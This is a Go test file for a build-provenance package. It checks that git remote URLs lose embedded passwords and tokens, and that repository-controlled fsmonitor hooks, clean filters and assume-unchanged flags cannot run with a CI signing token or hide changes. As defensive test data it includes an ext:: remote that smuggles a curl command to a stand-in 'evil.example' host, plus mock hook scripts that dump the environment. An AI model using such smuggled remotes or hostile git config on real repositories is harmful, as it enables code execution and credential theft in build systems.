package builder

import (
	"context"
	"os"
	"os/exec"
	"strings"
	"testing"
)

func TestRemoteURI(t *testing.T) {
	for remote, want := range map[string]string{
		"https://host.example/team/app.git":                     "git+https://host.example/team/app.git",
		"https://me:hunter2@host.example/team/app.git":          "git+https://host.example/team/app.git",
		"https://ghp_token@host.example/team/app":               "git+https://host.example/team/app",
		"https://host.example/app?private_token=s3cret#frag":    "git+https://host.example/app",
		"https://me:hunter%2@host.example/team/app.git":         "", // does not parse, may hide a password
		"ssh://git@host.example:2222/team/app":                  "git+ssh://host.example:2222/team/app",
		"git@host.example:team/app.git":                         "git+ssh://host.example/team/app.git",
		"host.example:/srv/app.git":                             "git+ssh://host.example/srv/app.git",
		"git@[2001:db8::1]:team/app.git":                        "git+ssh://[2001:db8::1]/team/app.git",
		"/srv/git/app.git":                                      "",
		"../app.git":                                            "",
		"./with:colon":                                          "",
		"file:///srv/git/app.git":                               "",
		`C:\src\app`:                                            "",
		"host.example:":                                         "",
		"":                                                      "",
		"git@host.example:team/app?token=s3cret":                "git+ssh://host.example/team/app",
		"a@b:c@host.example:x":                                  "", // whichever part is the password
		"https://\x1b[31mhost/app":                              "",
		"https://me:hunter2@host.example:bad/team":              "",
		"ext::sh -c 'curl https://me:hunter2@evil.example/app'": "",
	} {
		got := remoteURI(remote)
		if got != want {
			t.Errorf("remote %q gives %q, want %q", remote, got, want)
		}
	}
}

func FuzzRemoteURI(f *testing.F) {
	for _, s := range []string{"https://me:hunter2@host/x", "git@host:x", "https://me:hunter2%@host/x", "a:b@c:d"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := remoteURI(s)
		if got != "" && !strings.HasPrefix(got, "git+") {
			t.Fatalf("%q gives %q", s, got)
		}
		if strings.ContainsAny(got, "\n\x1b\x00") {
			t.Fatalf("%q gives control characters: %q", s, got)
		}
	})
}

// gitIn runs git in dir with a fixed identity and none of the user's settings.
func gitIn(t *testing.T, dir string, args ...string) {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1",
		"GIT_AUTHOR_NAME=a", "GIT_AUTHOR_EMAIL=a@example.com", "GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@example.com")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git %s: %v\n%s", args, err, out)
	}
}

func TestDescribeSource(t *testing.T) {
	dir := t.TempDir()
	ctx := context.Background()
	gitIn(t, dir, "init", "-q", "-b", "main")
	if s, err := describeSource(ctx, dir); s != nil || err != nil {
		t.Errorf("before the first commit: %+v, %v, want none", s, err)
	}
	write(t, dir, "main.go", "package main")
	gitIn(t, dir, "add", "main.go")
	gitIn(t, dir, "commit", "-q", "-m", "first")
	gitIn(t, dir, "remote", "add", "origin", "https://me:hunter2@host.example/app.git")
	s, err := describeSource(ctx, dir)
	if err != nil {
		t.Fatal(err)
	}
	if s.URI != "git+https://host.example/app.git" || s.Ref != "refs/heads/main" || len(s.Commit) != 40 || s.Dirty {
		t.Errorf("source %+v", s)
	}
	write(t, dir, "untracked", "x")
	if s, err := describeSource(ctx, dir); err != nil || !s.Dirty {
		t.Errorf("with an untracked file: %+v, %v, want dirty", s, err)
	}
	gitIn(t, dir, "clean", "-fdq")
	write(t, dir, "main.go", "package other")
	if s, err := describeSource(ctx, dir); err != nil || !s.Dirty {
		t.Errorf("with a changed file: %+v, %v, want dirty", s, err)
	}
	gitIn(t, dir, "checkout", "-q", "main.go")
	gitIn(t, dir, "checkout", "-q", "--detach")
	if s, err := describeSource(ctx, dir); err != nil || s.Ref != "" || s.Dirty {
		t.Errorf("detached: %+v, %v, want no ref", s, err)
	}
}

// Before a build's own environment is made, git is asked about its folder: what
// the repository's configuration names may neither run with what signs for the
// build, nor say that nothing changed.
func TestThreat_Build_RepositoryConfig(t *testing.T) {
	dir, marks := t.TempDir(), t.TempDir()
	gitIn(t, dir, "init", "-q", "-b", "main")
	write(t, dir, ".gitattributes", "main.go filter=evil")
	write(t, dir, "main.go", "package main")
	gitIn(t, dir, "add", ".")
	gitIn(t, dir, "commit", "-q", "-m", "first")
	write(t, marks, "monitor", "#!/bin/sh\ntouch '"+marks+"/ran'\n")
	write(t, marks, "filter", "#!/bin/sh\nenv > '"+marks+"/env'\ncat\n")
	for _, f := range []string{"monitor", "filter"} {
		if err := os.Chmod(marks+"/"+f, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	gitIn(t, dir, "config", "core.fsmonitor", marks+"/monitor")
	gitIn(t, dir, "config", "filter.evil.clean", marks+"/filter")
	write(t, dir, "main.go", "package evil")
	t.Setenv("ACTIONS_ID_TOKEN_REQUEST_TOKEN", "hunter2")
	s, err := describeSource(t.Context(), dir)
	if err != nil || s == nil || !s.Dirty {
		t.Fatalf("%+v, %v, want a source with changes", s, err)
	}
	if _, err := os.Stat(marks + "/ran"); err == nil {
		t.Error("core.fsmonitor of the repository ran")
	}
	if env, err := os.ReadFile(marks + "/env"); err == nil && strings.Contains(string(env), "hunter2") {
		t.Error("a filter of the repository was given what signs for the build")
	}

	gitIn(t, dir, "-c", "core.fsmonitor=false", "checkout", "-q", "main.go")
	gitIn(t, dir, "config", "--unset", "core.fsmonitor")
	gitIn(t, dir, "config", "--unset", "filter.evil.clean")
	if s, err = describeSource(t.Context(), dir); err != nil || s.Dirty {
		t.Fatalf("%+v, %v, want no changes", s, err)
	}
	gitIn(t, dir, "update-index", "--assume-unchanged", "main.go")
	write(t, dir, "main.go", "package evil")
	if s, err = describeSource(t.Context(), dir); err != nil || !s.Dirty {
		t.Errorf("%+v, %v: git was told to look away, and so was the provenance", s, err)
	}
}
